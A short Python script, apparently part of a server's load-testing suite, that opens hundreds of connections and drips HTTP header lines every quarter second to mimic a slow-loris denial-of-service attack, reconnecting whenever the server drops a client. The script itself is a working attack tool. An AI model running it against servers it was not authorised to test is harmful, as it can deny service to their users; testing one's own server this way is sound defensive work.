"""Clients whose heads never end, as in slow-loris attacks: each sends a line of one every quarter second, all at once.

A process of its own, which yields its processor, so that a load beside it does not wait for these lines to be sent: who
attacks has processors of their own. A client that the server gives up connects again. Prints one line once all are
connected; ends after `--seconds`, or when it is terminated.
"""

from __future__ import annotations

import argparse
import os
import socket
import time
from urllib.parse import urlsplit

from load import connected

EVERY = 0.25
"""Seconds between two drops of a client."""


def begun(address: str, path: str) -> socket.socket:
    """A client that has sent the beginning of a head."""
    made = connected(address)
    made.sendall(f"POST {path} HTTP/1.1\r\nHost: {urlsplit(address).netloc}\r\n".encode())
    return made


def main() -> None:
    """Drip."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("path")
    parser.add_argument("--clients", type=int, default=500)
    parser.add_argument("--seconds", type=float, default=60.0)
    given = parser.parse_args()
    os.nice(19)
    clients = [begun(given.address, given.path) for _ in range(given.clients)]
    print(f"{len(clients)} clients drip", flush=True)
    since = time.monotonic()
    while (now := time.monotonic()) < since + given.seconds:
        for at, client in enumerate(clients):
            try:
                client.sendall(b"X: 1\r\n")
            except OSError:  # given up by the server, as it should be
                client.close()
                clients[at] = begun(given.address, given.path)
        time.sleep(max(0.0, now + EVERY - time.monotonic()))


if __name__ == "__main__":
    main()
